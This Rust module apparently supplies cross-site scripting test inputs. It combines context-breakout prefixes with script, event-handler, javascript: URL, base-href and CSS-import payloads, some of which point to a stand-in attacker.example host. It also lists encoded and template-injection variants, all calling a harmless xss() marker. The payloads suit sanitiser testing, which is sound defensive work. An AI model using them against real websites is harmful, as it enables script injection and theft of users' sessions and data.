//! Texts that try to become script, markup or an attribute. Each calls `xss()` if it succeeds.

/// Ways out of where a text may stand.
const OUT: [&str; 12] = [
    "",
    "\">",
    "'>",
    "\" ",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "</option></select>",
    "</noscript>",
    "`>]]>",
];

/// What to do outside.
const DO: [&str; 26] = [
    "<script>xss()</script>",
    "<script src=data:,xss()></script>",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x>",
    "<details open ontoggle=xss()>x</details>",
    "<input autofocus onfocus=xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<body onload=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src onerror=xss()>",
    "<marquee onstart=xss()>x</marquee>",
    "<a href=javascript:xss() autofocus onfocus=xss()>x</a>",
    "<form action=javascript:xss()><button autofocus onfocus=xss()>x</form>",
    "<math><mtext><img src=x onerror=xss()></mtext></math>",
    "<template shadowrootmode=open><img src=x onerror=xss()></template>",
    "<meta http-equiv=refresh content='0 javascript:xss()'>",
    "<base href=//attacker.example/>",
    "<link rel=stylesheet href=//attacker.example/ onerror=xss()>",
    "<style>@import'//attacker.example/'</style>",
    "autofocus onfocus=xss() tabindex=0 x=",
    "onanimationstart=xss() style=animation:turn x=",
];

/// Texts that become dangerous when they are decoded once too often, or read as something else.
const DECODED: [&str; 14] = [
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;img src=x onerror=xss()&#62;",
    "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Exss()%3C/script%3E",
    "%253Cscript%253Exss()%253C/script%253E",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\\x3cscript\\x3exss()\\x3c/script\\x3e",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}xss()\u{ff1c}/script\u{ff1e}",
    "javascript:xss()",
    "{{constructor.constructor('xss()')()}}",
    "${xss()}",
    "<%= xss() %>",
    "\u{202e}<script>xss()</script>\u{2066}",
];

/// All of them, each once.
pub(super) fn all() -> Vec<String> {
    let combined = OUT
        .iter()
        .flat_map(|out| DO.iter().map(move |what| format!("{out}{what}")));
    combined.chain(DECODED.map(str::to_owned)).collect()
}
